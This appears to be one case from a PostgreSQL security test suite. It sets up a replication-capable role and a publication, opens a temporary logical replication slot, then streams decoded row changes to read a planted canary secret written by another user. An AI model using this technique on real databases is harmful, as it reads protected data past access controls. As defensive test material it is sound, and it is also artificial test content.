"""Has the changes of a licensed table decoded, over a slot that lives as long as the session."""

from contextlib import suppress

from attacks.frames import ask, hear, query
from attacks.talking import Server

WANTS = "read"
SETUP = """
CREATE ROLE copier LOGIN REPLICATION;
CREATE PUBLICATION vault FOR TABLE vlt_account;
"""
SHOWS = "top-secret-47119"
SLOT = b"CREATE_REPLICATION_SLOT loot TEMPORARY LOGICAL pgoutput"
START = (
    b"""START_REPLICATION SLOT loot LOGICAL 0/0 (proto_version '1', publication_names 'vault')"""
)
FRESH = "UPDATE vlt_account SET secret = 'top-secret-47119' WHERE id = 1"


def attack(server: Server) -> bytes:
    with server.login("copier", replication="database") as client:
        heard = ask(client, query(SLOT))
        with server.connect("alice") as owner:
            owner.execute(FRESH)
        client.socket.settimeout(1.0)
        with suppress(OSError):
            client.send(query(START))
        return heard + hear(client, rounds=9, last=b"d")
